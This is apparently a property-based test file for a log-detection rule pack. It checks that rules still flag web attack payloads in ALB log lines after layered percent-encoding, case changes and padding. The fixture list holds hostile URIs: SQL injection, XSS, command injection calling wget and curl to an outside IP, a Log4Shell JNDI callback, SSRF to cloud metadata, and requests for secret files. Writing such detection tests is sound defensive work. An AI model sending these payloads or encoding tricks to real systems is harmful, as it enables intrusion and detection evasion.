import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { albLine } from '../support/alb-line.ts';
import { loadPack, Watch } from '../support/pack.ts';

const watch = new Watch(loadPack({ ruleMatching: 'all' }));

/** A payload as it should arrive at the application, and the rule that must see through whatever it travels in. */
const payloads: readonly (readonly [rule: string, uri: string])[] = [
  ['Secret File Requested', '/.env'],
  ['Secret File Requested', '/app/.git/config'],
  ['Path Traversal', '/static/../../../etc/passwd'],
  ['SQL Injection', "/p?id=1' or '1'='1"],
  ['SQL Injection', '/p?id=1 union all select null,version()'],
  ['SQL Injection', '/p?id=1/**/union/**/select/**/1,2'],
  ['Cross Site Scripting', '/s?q=<script>alert(1)</script>'],
  ['Cross Site Scripting', '/s?q=<img src=x onerror=x()>'],
  ['Command Injection', '/ping?host=1.1.1.1;wget http://203.0.113.9/x'],
  ['Command Injection', '/ping?host=$(curl 203.0.113.9)'],
  ['Log4Shell Lookup', '/?x=${jndi:ldap://callback.example.net/a}'],
  ['OGNL Injection', '/${(#a=@java.lang.Runtime@getRuntime().exec("id"))}/'],
  ['Spring4Shell', '/?class.module.classLoader.resources=x'],
  ['PHPUnit Remote Code', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
  ['ThinkPHP Remote Code', '/index.php?s=/index/\\think\\app/invokefunction'],
  ['PHP Code Injection', '/?x=<?php phpinfo();?>'],
  ['Template Injection', '/hello?name={{7*7}}'],
  ['SSRF To Cloud Metadata', '/fetch?u=http://169.254.169.254/latest/meta-data/'],
  ['Header Injection', '/go?to=/\r\nSet-Cookie: a=b'],
  ['Prototype Pollution', '/api?__proto__[admin]=1'],
  ['XPath Or XML Injection', '/soap?x=<!ENTITY a SYSTEM "x">'],
  ['Web Shell Requested', '/x.php?cmd=whoami'],
  ['Device Exploit', '/boaform/admin/formLogin'],
  ['Dangerous URL Scheme', '/fetch?u=gopher://x.example/_'],
];

/** What no client can send bare in a request line, or ALB would log escaped. */
const mustEncode = /[^!-~]|["\\]/;

const percentEncoded = (char: string): string =>
  Array.from(Buffer.from(char), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

const encodedWhereNeeded = (text: string): string =>
  Array.from(text, (char) => (mustEncode.test(char) ? percentEncoded(char) : char)).join('');

interface Disguise {
  /** 0 as it is, 1 encoded, 2 encoded twice, 3 three times. */
  readonly layers: number;
  readonly upper: boolean;
  readonly plus: boolean;
}

const disguise: fc.Arbitrary<Disguise> = fc.record({
  layers: fc.integer({ min: 0, max: 3 }),
  upper: fc.boolean(),
  plus: fc.boolean(),
});

function disguised(char: string, { layers, upper, plus }: Disguise): string {
  if (char === ' ' && plus) return '+';
  let text = upper ? char.toUpperCase() : char;
  const least = mustEncode.test(text) || text === '+' ? 1 : 0;
  for (let layer = 0; layer < Math.max(layers, least); layer += 1) {
    const encoded = percentEncoded(text.slice(0, 1)) + text.slice(1);
    text = upper ? encoded.toUpperCase() : encoded;
  }
  return text;
}

/** Path and query; the question mark is structure, a client that encoded it would ask for something else. */
function partsOf(uri: string): readonly string[] {
  const mark = uri.indexOf('?');
  return mark < 0 ? [uri] : [uri.slice(0, mark), uri.slice(mark + 1)];
}

const raised = (path: string): readonly string[] => watch.rules(albLine({ path, status: 404 }));

describe('an attacker who encodes', () => {
  it.each(payloads)('does not get past %s: %s', (rule, uri) => {
    const disguises = fc.array(disguise, { minLength: uri.length, maxLength: uri.length });
    fc.assert(
      fc.property(disguises, (chosen) => {
        const left = chosen.values();
        const next = (char: string): string =>
          disguised(char, left.next().value ?? { layers: 0, upper: false, plus: false });
        const sent = `/${partsOf(uri.slice(1))
          .map((part) => Array.from(part, next).join(''))
          .join('?')}`;
        expect(raised(sent), sent).toContain(rule);
      }),
      { numRuns: 25 },
    );
  });
});

describe('an attacker who pads', () => {
  it.each(payloads)('does not get past %s: %s', (rule, uri) => {
    const [path = '', query] = partsOf(uri);
    const behind = query === undefined ? '' : `&${encodedWhereNeeded(query)}`;
    expect(raised(`${encodedWhereNeeded(path)}?pad=${'a'.repeat(6000)}${behind}`)).toContain(rule);
  });
});
